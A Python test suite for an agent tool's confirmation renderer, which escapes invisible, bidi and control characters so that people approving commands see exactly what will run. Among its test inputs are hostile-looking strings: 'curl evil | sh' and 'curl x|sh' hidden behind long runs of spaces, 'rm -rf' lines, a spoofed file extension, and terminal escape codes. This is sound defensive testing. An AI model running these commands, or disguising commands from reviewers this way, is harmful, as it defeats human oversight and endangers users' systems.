"""The faithful rendering of a confirmation's arguments (R77), and its JavaScript twin.

`agentrio.protocol.faithful` is what the REPL dialog and the chat bots draw (issue 29 finding 5:
one renderer for every Python front-end); ``faithfulLines`` in
engine/server/static/app.js is what the web page draws. The two must escape the same
code points the same way: the JS section is run under node on one table of inputs
(fixed cases plus seeded random strings) and compared piece by piece with the Python.
"""

from __future__ import annotations

import json
import random
import re
import shutil
import subprocess
import sys
import unicodedata
from pathlib import Path
from typing import Any

import attrs
import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from agentrio.engine.tools.file_diff import unified_diff
from agentrio.protocol.events import FileChange
from agentrio.protocol.faithful import (
    INVISIBLE_RANGES,
    NEWLINE_MARK,
    SPACE_RUN,
    FaithfulLine,
    Piece,
    cell_width,
    confirm_lines,
    diff_lines,
    faithful_lines,
    is_invisible,
    one_line,
    plain_text,
    source_length,
    wrap_rows,
)
from tests.engine.server.test_static_page import run_node

APP_JS = Path(__file__).resolve().parents[2] / "engine" / "server" / "static" / "app.js"
NODE = shutil.which("node")


def shown(args: dict[str, Any]) -> list[tuple[str, str]]:
    """Each line as (label, its pieces' text joined, escapes in [brackets])."""
    out = []
    for line in faithful_lines(args):
        text = "".join(f"[{p.text}]" if p.kind == "escape" else p.text for p in line.pieces)
        out.append((line.label, text))
    return out


@pytest.mark.parametrize(
    ("command", "lines"),
    [
        ("echo hello", [("", "echo hello")]),
        ("echo safe\ntouch x", [("1", "echo safe⏎"), ("2", "touch x")]),
        ("ls\n", [("1", "ls⏎"), ("2", "")]),
        ("printf '\\n'", [("", "printf '\\n'")]),
        ("a\tb", [("", "a[\\t]b")]),
        ("a\r\nb", [("1", "a[\\r]⏎"), ("2", "b")]),
        ("echo \x1b[2Jok", [("", "echo [\\x1b][2Jok")]),
        ("cat \u202egnp.exe", [("", "cat [\\u202e]gnp.exe")]),
        (
            "x\u2066y\u2069\u200e\u200f\u061c",
            [("", "x[\\u2066]y[\\u2069][\\u200e][\\u200f][\\u061c]")],
        ),
        ("rm\u200b -rf", [("", "rm[\\u200b] -rf")]),
        ("a\u00a0b\ufeffc", [("", "a[\\xa0]b[\\ufeff]c")]),
        ("x\u2028y", [("", "x[\\u2028]y")]),
        ("tag\U000e0041", [("", "tag[\\U000e0041]")]),
        ("\x00\x7f\x85", [("", "[\\x00][\\x7f][\\x85]")]),
        ("ls ./build" + " " * 5000 + "; curl x|sh", [("", "ls ./build⟨5000 spaces⟩; curl x|sh")]),
        ("a" + " " * (SPACE_RUN - 1) + "b", [("", "a" + " " * (SPACE_RUN - 1) + "b")]),
        ("echo hi ", [("", "echo hi⟨1 space⟩")]),
        ("naïve 日本語 ", [("", "naïve 日本語⟨1 space⟩")]),
    ],
)
def test_command_lines_and_escapes(command: str, lines: list[tuple[str, str]]) -> None:
    """R77: a lone command shows line by line (numbered when more than one, ``⏎`` at
    each newline), controls, invisible, bidi and odd spaces escaped, long space runs
    and trailing spaces counted; a literal backslash stays as written."""
    assert shown({"command": command}) == lines


def test_other_arguments_and_argv() -> None:
    """R77: an argv list shows one word per line by index (newline in a word escaped);
    every other argument is shown by name, multi-line strings numbered, other values
    as JSON, escaped the same way."""
    args = {
        "timeout_s": 30,
        "command": ["sh", "-c", "id\nrm x"],
        "cwd": "/tmp/a\u202eb",
        "env": {"A": "1\u200b"},
        "note": "one\ntwo",
    }
    assert shown(args) == [
        ("", "command: (argv, 3 words)"),
        ("[0]", "sh"),
        ("[1]", "-c"),
        ("[2]", "id[\\n]rm x"),
        ("", "timeout_s: 30"),
        ("", "cwd: /tmp/a[\\u202e]b"),
        ("", 'env: {"A": "1[\\u200b]"}'),
        ("", "note: (2 lines)"),
        ("1", "one⏎"),
        ("2", "two"),
    ]


def test_every_invisible_category_is_escaped() -> None:
    """R77: every code point Python's Unicode data files as a control, format,
    separator, space other than U+0020, private-use or surrogate is in the table
    (a newer Unicode adding one fails here until INVISIBLE_RANGES is extended)."""
    categories = {"Cc", "Cf", "Zs", "Zl", "Zp", "Co", "Cs"}
    missing = [
        f"U+{code:04X}"
        for code in range(sys.maxunicode + 1)
        if code not in (0x0A, 0x20)
        and unicodedata.category(chr(code)) in categories
        and not is_invisible(chr(code))
    ]
    assert missing == []
    assert not is_invisible("\n")
    assert not is_invisible(" ")
    assert list(INVISIBLE_RANGES) == sorted(INVISIBLE_RANGES)


def decode(lines: list[FaithfulLine]) -> str:
    """The original command back from a lone command's lines (to prove nothing is
    lost or added)."""
    out = []
    for piece in (p for line in lines for p in line.pieces):
        if piece.kind == "text":
            out.append(piece.text)
        elif piece.kind == "escape":
            out.append(piece.text.encode().decode("unicode_escape"))
        elif piece.text == NEWLINE_MARK:
            out.append("\n")
        else:
            out.append(" " * piece.source)
    return "".join(out)


TRICKY = st.sampled_from(
    ["\n", "\r", "\t", " ", "\x1b", "\u202e", "\u2067", "\u200b", "\xa0", "\\", "⏎", "⟨"]
)


@given(st.lists(st.one_of(st.characters(), TRICKY), max_size=60).map("".join))
def test_nothing_lost_nothing_hidden(command: str) -> None:
    """R77: for any command, the pieces decode back to exactly the command, every
    character is counted once, and no text piece holds an invisible character or a
    newline."""
    lines = faithful_lines({"command": command})
    assert decode(lines) == command
    assert source_length(p for line in lines for p in line.pieces) == len(command)
    for line in lines:
        for piece in line.pieces:
            if piece.kind == "text":
                assert "\n" not in piece.text
                assert not any(is_invisible(c) for c in piece.text)


@given(
    st.lists(st.one_of(st.characters(), TRICKY, st.just("日")), max_size=80).map("".join),
    st.integers(min_value=1, max_value=30),
)
@example("\u0300日", 1)  # a zero-width mark, then a wide character: two rows
def test_wrapping_keeps_every_piece(command: str, width: int) -> None:
    """R77: wrapping to a width only cuts text between characters: the rows hold every
    piece in order, no row is wider than the width (but for one escape, mark or wide
    character longer than it), and each line's first row carries its label."""
    lines = faithful_lines({"command": command})
    rows = wrap_rows(lines, width)
    assert "".join(p.text for r in rows for p in r.pieces) == "".join(
        p.text for line in lines for p in line.pieces
    )
    for row in rows:
        cells = sum(
            sum(cell_width(c) for c in p.text) if p.kind == "text" else len(p.text)
            for p in row.pieces
        )
        alone = len(row.pieces) == 1 and (
            row.pieces[0].kind != "text" or len(row.pieces[0].text) == 1
        )
        assert cells <= width or alone
        assert all(p.kind == "text" or p.text for p in row.pieces)
    assert [r.label for r in rows if not r.continued] == [line.label for line in lines]


# ---------------------------------------------------------------- the web page's twin


def js_section() -> str:
    text = APP_JS.read_text()
    match = re.search(r"// ---- faithful: begin.*?// ---- faithful: end[^\n]*\n", text, re.S)
    assert match is not None, "app.js lost its faithful section markers"
    return match.group(0)


def test_js_table_is_the_python_table() -> None:
    """R77: the page escapes the same code points as the REPL (one table, written
    twice: app.js is served as is, with no build step to share it)."""
    found = re.search(r"const INVISIBLE_RANGES = \[(.*?)\];", js_section(), re.S)
    assert found is not None
    pairs = re.findall(r"\[\s*0x([0-9A-Fa-f]+)\s*,\s*0x([0-9A-Fa-f]+)\s*\]", found.group(1))
    assert [(int(a, 16), int(b, 16)) for a, b in pairs] == list(INVISIBLE_RANGES)
    assert re.search(rf"const SPACE_RUN = {SPACE_RUN};", js_section())


def table() -> list[dict[str, Any]]:
    """Fixed tricky cases plus seeded random commands over an alphabet of trouble."""
    cases: list[dict[str, Any]] = [
        {"command": "echo hello"},
        {"command": "echo safe\ntouch x\n"},
        {"command": "a\r\n\tb\x1b[31m\x7f\x9b"},
        {"command": "cat \u202egnp.exe \u2066x\u2069 \u200e\u200f\u061c \u202a\u202b\u202c\u202d"},
        {"command": "z\u200bw\u200c\u200d\u2060\ufeff \u00a0\u2007\u202f\u3000\u3164\u115f"},
        {"command": "tags\U000e0041\U000e007f\U000e0100 pua\ue000\U000f0000 \u2028\u2029"},
        {"command": "ls ./build" + " " * 300 + "; curl evil | sh   "},
        {"command": "emoji 😀👍🏽 日本語 naïve e\u0301"},
        {"command": ["sh", "-c", "id\nrm -rf x", "a\u202eb", "  "]},
        {"command": "make", "timeout_s": 30, "cwd": "/tmp/x\u200by", "env": {"K": "v\n\x1b"}},
        {"note": "one\ntwo\n", "flag": True, "none": None, "list": [1, "a\tb", [2]]},
        {"command": []},
        {"command": ""},
        {"we\u202eird\nname": "v"},
    ]
    alphabet = [
        *"ab \n\t\r\\\"'$;|⏎",
        "\x1b",
        "\x00",
        "\x7f",
        "\x85",
        "\xa0",
        "\u200b",
        "\u202e",
        "\u2067",
        "\u061c",
        "\ufeff",
        "\u3000",
        "日",
        "😀",
        "\U000e0041",
        "\ue000",
        "        ",
    ]
    rng = random.Random(77)
    for _ in range(300):
        cases.append({"command": "".join(rng.choice(alphabet) for _ in range(rng.randint(0, 40)))})
    return cases


def as_json(lines: list[FaithfulLine]) -> list[dict[str, Any]]:
    return [
        {"label": line.label, "pieces": [[p.kind, p.text, p.source] for p in line.pieces]}
        for line in lines
    ]


@pytest.mark.skipif(NODE is None, reason="node is not installed")
def test_js_renders_like_python() -> None:
    """R77: ``faithfulLines`` of app.js, run under node, gives the same lines and
    pieces as `faithful_lines` for every input of the table."""
    assert NODE is not None
    cases = table()
    script = (
        js_section()
        + "\nconst cases = JSON.parse(require('fs').readFileSync(0, 'utf8'));\n"
        + "process.stdout.write(JSON.stringify(cases.map(faithfulLines)));\n"
    )
    done = subprocess.run(
        [NODE, "-e", script],
        input=json.dumps(cases),
        capture_output=True,
        text=True,
        timeout=60,
        check=True,
    )
    got = json.loads(done.stdout)
    assert len(got) == len(cases)
    for case, js in zip(cases, got, strict=True):
        assert js == as_json(faithful_lines(case)), case


@pytest.mark.skipif(NODE is None, reason="node is not installed")
def test_js_one_line_is_the_python_one_line() -> None:
    """R77, R92: ``oneLine`` of app.js (an offered rule's label on the page) gives
    exactly `one_line` (the REPL's and the bots') for every string of the table."""
    assert NODE is not None
    texts = [str(case.get("command", "")) for case in table()] + ["a⟨\\u202e⟩b", "x\ny⏎"]
    script = (
        js_section()
        + "\nconst cases = JSON.parse(require('fs').readFileSync(0, 'utf8'));\n"
        + "process.stdout.write(JSON.stringify(cases.map((t) => oneLine(t))));\n"
    )
    done = subprocess.run(
        [NODE, "-e", script], input=json.dumps(texts), capture_output=True, text=True,
        timeout=60, check=True,
    )  # fmt: skip
    assert json.loads(done.stdout) == [one_line(text) for text in texts]
    assert one_line("cd /srv/\u202eb\nx") == "cd /srv/⟨\\u202e⟩b⟨\\n⟩x"
    assert one_line("a⟨\\u202e⟩") == "a⟨\\u27e8⟩\\u202e⟨\\u27e9⟩"


def test_piece_is_what_it_says() -> None:
    """R77: the piece kinds a front-end styles."""
    (line,) = faithful_lines({"command": "a\x1b" + " " * 9})
    assert line.pieces == (
        Piece("text", "a", 1),
        Piece("escape", "\\x1b", 1),
        Piece("mark", "⟨9 spaces⟩", 9),
    )


def test_plain_text_marks_every_escape_and_cannot_be_forged() -> None:
    """Issue 29 finding 5: where no style marks a piece (a chat's code block), every
    argument still shows, each escape sits in ``⟨…⟩`` so a literal backslash never
    passes for one, and the command's own ``⟨ ⟩ ⏎`` are escaped so it cannot forge a
    mark (a fake ``⟨5000 spaces⟩`` or line end)."""
    args = {
        "command": "echo \\x1b \x1b[2J ⟨5000 spaces⟩⏎\nrm -rf x",
        "cwd": "/srv/a\u202eb",
        "timeout_s": 30,
    }
    assert plain_text(faithful_lines(args)).split("\n") == [
        " │ command: (2 lines)",
        "1│ echo \\x1b ⟨\\x1b⟩[2J ⟨\\u27e8⟩5000 spaces⟨\\u27e9⟩⟨\\u23ce⟩⏎",
        "2│ rm -rf x",
        " │ cwd: /srv/a⟨\\u202e⟩b",
        " │ timeout_s: 30",
    ]
    assert plain_text(faithful_lines({"command": "ls"})) == "ls"


def _changes() -> list[FileChange]:
    """File changes over the same alphabet of trouble (issue 32: the diff is shown
    by the confirmation's rules)."""
    rng = random.Random(32)
    alphabet = ["a", "b", " ", "\n", "\n", "\r", "\t", "\x1b", "\u202e", "\u200b", "日", "\\", "@"]
    out = [
        FileChange(
            path="/w/a.py", diff=unified_diff("a\nb\n", "a\nB \r\n").text, added=1, removed=1
        ),
        FileChange(
            path="/w/n",
            diff=unified_diff("", "x").text,
            added=1,
            created=True,
            rule_dir="/w/\u202ed",
        ),
    ]
    for _ in range(60):
        old = "".join(rng.choice(alphabet) for _ in range(rng.randint(0, 30)))
        new = "".join(rng.choice(alphabet) for _ in range(rng.randint(0, 30)))
        diff = unified_diff(old, new)
        out.append(FileChange(path="/w/f", diff=diff.text, added=diff.added, removed=diff.removed))
    return out


def test_a_diff_shows_every_file_character() -> None:
    """Issue 32 s2, R77: each diff line's marker is its gutter label, its text is the
    file's line with invisible characters escaped and trailing spaces marked; a missing
    final newline is a mark; nothing of the file's text is dropped."""
    diff = unified_diff("keep\nold \r\n", "keep\nnew\u202e").text
    assert diff == "@@ -1,2 +1,2 @@\n keep\n-old \r\n+new\u202e\n\\ No newline at end of file\n"
    shown = [
        (line.label, "".join(f"[{p.text}]" if p.kind == "escape" else p.text for p in line.pieces))
        for line in diff_lines(diff)
    ]
    assert shown == [
        ("@@", "-1,2 +1,2 @@"),
        (" ", "keep"),
        ("-", "old [\\r]"),
        ("+", "new[\\u202e]"),
        ("", "\\ No newline at end of file"),
    ]
    change = FileChange(path="/w/x", diff=diff, added=1, removed=1, rule_dir="/w")
    lines = confirm_lines({"path": "/w/x"}, change)
    assert plain_text(lines).split("\n")[0:2] == ["  │ path: /w/x", "  │ diff (+1 -1 lines):"]
    assert plain_text(lines).split("\n")[-1] == "  │ this directory: /w"


@pytest.mark.skipif(NODE is None, reason="node is not installed")
def test_js_shows_a_diff_like_python() -> None:
    """Issue 32 s2: ``confirmLines`` of app.js draws a file change's confirmation as
    `confirm_lines` does, for every change of the table."""
    changes = _changes()
    cases = [{"args": {"path": c.path}, "change": attrs.asdict(c)} for c in changes]
    script = (
        js_section()
        + "\nconst cases = JSON.parse(require('fs').readFileSync(0, 'utf8'));\n"
        + "const shown = cases.map((c) => confirmLines(c.args, c.change));\n"
        + "process.stdout.write(JSON.stringify(shown));\n"
    )
    got = run_node(script, cases)
    for change, js in zip(changes, got, strict=True):
        assert js == as_json(confirm_lines({"path": change.path}, change)), change


@pytest.mark.skipif(NODE is None, reason="node is not installed")
def test_js_leads_a_call_met_again_with_its_note_like_python() -> None:
    """Issue 34 item 5: a confirmation of a call met again after its task stopped while
    it ran is led by its ``interrupted:`` line, escapes and all, in app.js as in
    `confirm_lines` (the REPL's dialog and the bots' text)."""
    note = "it may have partly run\u202e\x1b[2J"
    args = {"command": "npm run migrate", "cwd": "/w"}
    lines = confirm_lines(args, None, note)
    assert (
        plain_text(lines).split("\n")[0] == "interrupted: it may have partly run⟨\\u202e⟩⟨\\x1b⟩[2J"
    )
    script = (
        js_section()
        + "\nconst c = JSON.parse(require('fs').readFileSync(0, 'utf8'));\n"
        + "process.stdout.write(JSON.stringify(confirmLines(c.args, null, c.note)));\n"
    )
    assert run_node(script, {"args": args, "note": note}) == as_json(lines)
